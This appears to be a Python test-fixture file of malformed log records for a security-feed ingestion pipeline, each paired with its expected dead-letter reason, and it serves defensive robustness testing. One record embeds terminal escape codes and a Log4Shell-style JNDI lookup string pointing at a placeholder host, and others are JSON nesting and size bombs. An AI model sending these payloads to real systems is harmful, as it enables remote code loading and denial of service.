"""Bad records for every feed, with the fate that each must have: the reason of its dead letter, or "filtered"."""

import json
from collections.abc import Iterator
from dataclasses import dataclass

from schemas import instant
from streams.stage import Raw

NINE = instant.parse("2026-03-02T09:00:00Z")
DEAD = "dead"  # for whatever reason
ANY = "any"  # dead for one reason or another, or an event that says nothing to a fold
LONG_AGO = "1970-01-01T00:00:01"
NEXT_YEAR = "2027-03-02T09:00:00"


@dataclass(frozen=True)
class Bad:
    """One bad record. ``fate``: reason of the dead letter, "filtered", DEAD or ANY."""

    name: str
    data: bytes
    fate: str = ANY


def of_any_feed() -> list[Bad]:
    """What no feed may take for a record."""
    return [
        Bad("invalid UTF-8", b"\xff\xfe" + b'{"a":1}', "invalid_utf8"),
        Bad("truncated UTF-8", "é".encode()[:1], "invalid_utf8"),
        Bad("lone surrogate as bytes", b"\xed\xa0\x80", "invalid_utf8"),
        Bad("overlong NUL", b"\xc0\x80", "invalid_utf8"),
        Bad("NUL within", b"a\x00b", "nul"),
        Bad("empty", b"", "filtered"),
        Bad("blanks", b" \t ", "filtered"),
        Bad("CR only", b"\r", "filtered"),
        Bad("BOM alone", b"\xef\xbb\xbf"),
        Bad("terminal escapes", b"\x1b[2J\x1b[1;31m\xe2\x80\xae${jndi:ldap://x/a}\x07"),
        Bad("a megabyte of one sign", b"A" * 1_000_000),
        Bad("a megabyte of brackets", b"(" * 1_000_000),
    ]


def of_json() -> list[Bad]:
    """What a feed of JSON may not take for a record."""
    return [
        Bad("truncated JSON", b'{"timestamp":"2026-03-02T09:00:00Z","a":{"b":', "bad_json"),
        Bad("depth of 100,000", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, DEAD),
        Bad("depth of 100,000, unclosed", b"[" * 100_000),
        Bad("depth of 100", b'{"a":' * 100 + b"1" + b"}" * 100, "too_deep"),
        Bad("100,000 keys", ("{" + ",".join(f'"{n}":1' for n in range(100_000)) + "}").encode(), "too_many_keys"),
        Bad("a key twice", b'{"timestamp":"2026-03-02T09:00:00Z","a":1,"a":2}', "duplicate_key"),
        Bad("a key twice, escaped", b'{"timestamp":"x","\\u0061":1,"a":2}', "duplicate_key"),
        Bad("NaN", b'{"timestamp":"2026-03-02T09:00:00Z","a":NaN}', "bad_json"),
        Bad("infinity", b'{"timestamp":"2026-03-02T09:00:00Z","a":-Infinity}', "bad_json"),
        Bad("1e999", b'{"timestamp":"2026-03-02T09:00:00Z","a":1e999}', "bad_json"),
        Bad("lone surrogate escaped", b'{"timestamp":"2026-03-02T09:00:00Z","a":"\\ud800"}', "bad_json"),
        Bad("array", b"[1,2,3]", DEAD),
        Bad("null", b"null", DEAD),
        Bad("BOM before JSON", b'\xef\xbb\xbf{"a":1}', DEAD),
        *(Bad(f"{name} is {value}", json.dumps({name: value}).encode()) for name in _NAMES for value in _VALUES),
    ]


_NAMES = (
    "timestamp", "@timestamp", "event_type", "alert", "src_ip", "message", "transaction", "audit_data", "rule", "syscheck",
    "Event", "winlog", "EventData", "number", "sys_updated_on", "approval", "data", "user", "updated", "__REALTIME_TIMESTAMP",
)  # fmt: skip
_VALUES = (None, True, -1, 10**40, 1.5, "", "x", [], [[]], {}, {"a": {"b": []}}, "9999999-99-99T99:99:99Z")


def of_feed(feed: str) -> list[Bad]:
    """All bad records for ``feed``."""
    return [*of_any_feed(), *(of_json() if feed in _JSON else _as_text())]


def _as_text() -> list[Bad]:
    """The same, where JSON is only one more unreadable line."""
    return [Bad(bad.name, bad.data) for bad in of_json()]


_JSON = ("suricata", "servicenow", "wazuh", "windows")


def implausible() -> Iterator[tuple[str, Bad]]:
    """(feed, record) whose time nobody can have seen."""
    for stamp in (LONG_AGO, NEXT_YEAR):
        yield "linux", Bad(f"linux {stamp}", f"{stamp}Z web sshd[7]: Failed password for root from 10.9.9.9 port 1 ssh2".encode(), "implausible_time")
        epoch = instant.parse(stamp + "Z") // instant.SECOND
        yield "auditd", Bad(f"auditd {stamp}", f"type=SYSTEM_BOOT msg=audit({epoch}.000:7): pid=1 uid=0 res=success".encode(), "implausible_time")
        suricata = {"timestamp": f"{stamp}.000000+0000", "event_type": "alert", "src_ip": "10.9.9.9", "alert": {"signature": "x"}}
        yield "suricata", Bad(f"suricata {stamp}", json.dumps(suricata).encode(), "implausible_time")
        date, _, clock = stamp.partition("T")
        yield "fortigate", Bad(f"fortigate {stamp}", (
            f'date={date} time={clock} tz="+0000" devname="fw-a" devid="F" logid="0100044546" type="event" subtype="system" '
            'level="information" vd="root" logdesc="Attribute configured" user="eve" ui="GUI(10.0.0.9)" action="Edit" cfgtid=77 '
            'cfgpath="firewall.policy" cfgobj="7" cfgattr="action[deny->accept]" msg="Edit firewall.policy 7"'
        ).encode(), "implausible_time")  # fmt: skip


def raws(feed: str, bads: list[Bad], *, source: str, at: int = NINE) -> list[tuple[Bad, Raw]]:
    """``bads`` as a collector hands them on."""
    return [(bad, Raw(source, feed, bad.data, at, 0, number)) for number, bad in enumerate(bads, 1)]
